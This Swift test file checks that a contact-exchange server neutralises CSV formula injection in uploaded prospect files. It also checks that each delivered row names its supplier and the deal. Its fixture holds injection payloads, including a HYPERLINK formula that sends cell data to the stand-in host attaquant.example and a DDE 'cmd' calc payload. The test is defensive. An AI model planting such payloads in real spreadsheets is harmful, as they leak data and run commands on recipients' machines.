import Foundation
import HTTPTypes
import HummingbirdTesting
import Testing
import TrocCore
import TrocServer

/// What a released delivery holds, through the API: no formula a firm planted runs in the other
/// firm's spreadsheet, and every row names its supplier and the deal.
@Suite struct DeliveryContentTests {
    /// The joinery's file with formulas planted in the cells a spreadsheet shows first.
    static let planted = """
        nom;prenom;email;telephone;raison_sociale;source;date_collecte;consentement
        "=HYPERLINK(""http://attaquant.example/?d=""&A2,""Voir"")";@SUM(1+1);piege1@menuiserie-leroy.fr;06 31 41 59 26;+cmd|' /C calc'!A0;salon;02/11/2026;
        Martin;-2+3;piege2@menuiserie-leroy.fr;+33 6 53 58 97 93;Menuiserie Leroy;=1+1;02/11/2026;

        """ + DealFiles.prospects("menuiserie-client")

    @Test func formulasAFirmPlantsReachTheOtherFirmNeutralisedWithTheirProvenance() async throws {
        try await TestBroker.withParties { client, broker, parties in
            let deal = try await client.decoded(
                Deal.self, .post, "/v1/deals", token: parties.joineryToken,
                json: #"{"partnerId": "\#(parties.heating.id)", "pricePer1000Cents": 2500, "policy": "all"}"#)
            let uploads = [
                (Self.planted, parties.joinery.id, parties.joineryToken), (DealFiles.heating, parties.heating.id, parties.heatingToken),
            ]
            for (text, organisation, token) in uploads {
                #expect(try await client.uploadToDeal(text, deal: deal.id, as: organisation, token: token, broker: broker).status == .ok)
            }
            for token in [parties.joineryToken, parties.heatingToken] {
                _ = try await client.decoded(Deal.self, .post, "/v1/deals/\(deal.id)/accept", token: token, json: "{}")
            }
            _ = try await client.decoded(Deal.self, .post, "/v1/deals/\(deal.id)/approve", token: broker.operatorToken, json: "{}")
            _ = try await client.decoded(Deal.self, .post, "/v1/deals/\(deal.id)/release", token: broker.operatorToken, json: "{}")

            let received = try await parties.download(client, deal: deal.id, for: parties.heating.id)
            let rows = deliveryRows(received).map { DeliveryCSV.cells($0) }
            let first = try #require(rows.first { $0.contains("piege1@menuiserie-leroy.fr") })
            let second = try #require(rows.first { $0.contains("piege2@menuiserie-leroy.fr") })
            let column = Dictionary(uniqueKeysWithValues: CanonicalContactWriter.header.split(separator: ";").enumerated().map { (String($1), $0) })
            func cell(_ row: [String], _ name: String) -> String? { column[name].flatMap { $0 < row.count ? row[$0] : nil } }
            #expect(cell(first, "nom") == #"'=HYPERLINK("http://attaquant.example/?d="&A2,"Voir")"#)
            #expect(cell(first, "prenom") == "'@SUM(1+1)")
            #expect(cell(first, "raison_sociale") == "'+cmd|' /C calc'!A0")
            #expect(cell(first, "telephone") == "+33631415926" && cell(second, "telephone") == "+33653589793", "an E.164 phone stays as it is")
            #expect(cell(second, "prenom") == "'-2+3" && cell(second, "source") == "'=1+1")
            for row in rows {
                #expect(cell(row, "fournisseur") == "Menuiseries Durand SARL" && cell(row, "siren_fournisseur") == "732829320")
                #expect(cell(row, "reference_echange") == deal.id)
                #expect(row.allSatisfy { !SpreadsheetCell.runsAsFormula($0) }, "\(row)")
            }
        }
    }
}

/// Reads deliveries back in tests.
enum DeliveryCSV {
    /// The cells of one `;`-separated line, RFC 4180 quoting undone.
    static func cells(_ line: Substring) -> [String] {
        let characters = Array(line)
        var cells: [String] = []
        var cell = ""
        var quoted = false
        var index = 0
        while index < characters.count {
            let character = characters[index]
            if quoted {
                if character != "\"" {
                    cell.append(character)
                } else if index + 1 < characters.count, characters[index + 1] == "\"" {
                    cell.append("\"")
                    index += 1
                } else {
                    quoted = false
                }
            } else if character == "\"" {
                quoted = true
            } else if character == ";" {
                cells.append(cell)
                cell = ""
            } else {
                cell.append(character)
            }
            index += 1
        }
        cells.append(cell)
        return cells
    }
}
